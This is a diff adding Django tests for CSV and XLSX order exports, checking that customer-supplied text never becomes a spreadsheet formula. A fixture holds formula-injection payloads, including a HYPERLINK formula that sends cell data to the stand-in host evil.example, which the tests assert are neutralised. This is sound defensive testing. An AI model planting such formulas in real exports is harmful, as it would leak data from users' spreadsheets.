@@ -1,0 +1,140 @@
+"""Order exports: CSV and XLSX of the filtered or selected orders, one row per line, never a formula."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.conf import settings
+from openpyxl import load_workbook
+
+from checkout.exports import safe_text
+from checkout.models import Order
+
+from .factories import order_with_lines, user_in_group
+
+pytestmark = pytest.mark.django_db
+
+HEADER = [
+    "Order", "Placed (UTC)", "Status", "Language", "Currency", "First name", "Last name", "Email", "Address",
+    "Postal code", "City", "Country", "Subtotal", "Discount", "Total", "SKU", "Product", "Unit price", "Quantity",
+    "Line total",
+]  # fmt: skip
+
+
+@pytest.fixture
+def manager(client, django_user_model):
+    user = user_in_group(django_user_model, settings.SHOP_MANAGERS_GROUP, "checkout.view_order")
+    client.force_login(user)
+    return user
+
+
+@pytest.fixture
+def orders(shop):
+    ana = order_with_lines([(shop["kettle"], 2), (shop["mug"], 1)], number="SF-000001")
+    mallory = order_with_lines(
+        [(shop["mug"], 1)],
+        number="SF-000002",
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        last_name="+1+1",
+        address="-2+3",
+        city="@SUM(A1:A9)",
+        postal_code="\t0800",
+        email="mallory@example.com",
+        status=Order.Status.PAID,
+    )
+    return {"ana": ana, "mallory": mallory}
+
+
+def read_csv(response):
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Ana", "Ana"),
+        ("a=b", "a=b"),
+        (Decimal("24.50"), "24.50"),
+        (3, "3"),
+        (None, ""),
+    ],
+)
+def test_no_csv_cell_can_start_a_formula(value, cell):
+    assert safe_text(value) == cell
+
+
+def test_the_csv_has_one_row_per_line_with_the_order_repeated(client, manager, orders):
+    rows = read_csv(client.get("/admin/orders/?export=csv"))
+
+    assert rows[0] == HEADER
+    ana_rows = [row for row in rows[1:] if row[0] == "SF-000001"]
+    email = orders["ana"].email
+    assert [row[2:12] for row in ana_rows] == [
+        ["Pending payment", "en", "USD", "Ana", "Pérez", email, "Calle Mayor 1", "28001", "Madrid", "ES"]
+    ] * 2
+    assert [row[12:] for row in ana_rows] == [
+        ["57.00", "0.00", "57.00", "KET-1", "Kettle", "24.50", "2", "49.00"],
+        ["57.00", "0.00", "57.00", "MUG-1", "Mug", "8.00", "1", "8.00"],
+    ]
+    assert len(rows) == 1 + 3
+
+
+def test_customer_text_never_becomes_a_formula_in_the_csv(client, manager, orders):
+    rows = read_csv(client.get("/admin/orders/?export=csv&status=paid"))
+
+    (row,) = rows[1:]
+    assert row[5:11] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "'+1+1",
+        "mallory@example.com",
+        "'-2+3",
+        "'\t0800",
+        "'@SUM(A1:A9)",
+    ]
+
+
+def test_the_csv_follows_the_lists_filters_and_search(client, manager, orders):
+    by_status = read_csv(client.get("/admin/orders/?export=csv&status=pending"))
+    by_search = read_csv(client.get("/admin/orders/?export=csv&q=mallory"))
+
+    assert {row[0] for row in by_status[1:]} == {"SF-000001"}
+    assert {row[0] for row in by_search[1:]} == {"SF-000002"}
+
+
+def test_selected_orders_export_through_the_bulk_action(client, manager, orders):
+    response = client.get(f"/admin/bulk/checkout/order/export_csv/?id={orders['mallory'].pk}")
+
+    rows = read_csv(response)
+    assert response["Content-Disposition"] == 'attachment; filename="orders-selected.csv"'
+    assert [row[0] for row in rows[1:]] == ["SF-000002"]
+
+
+def test_the_xlsx_keeps_text_as_text_and_numbers_as_numbers(client, manager, orders):
+    response = client.get(f"/admin/bulk/checkout/order/export_xlsx/?id={orders['mallory'].pk}&id={orders['ana'].pk}")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows())
+    assert [cell.value for cell in rows[0]] == HEADER
+    assert [row[0].value for row in rows[1:]] == ["SF-000001", "SF-000001", "SF-000002"]
+    name = rows[3][5]
+    assert (name.value, name.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "s")
+    assert (rows[1][14].value, rows[1][14].data_type) == (57, "n")
+    assert rows[1][18].value == 2
+
+
+def test_the_filtered_xlsx_download(client, manager, orders):
+    response = client.get("/admin/orders/?export=xlsx&status=paid")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert response["Content-Disposition"] == 'attachment; filename="orders.xlsx"'
+    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["SF-000002"]
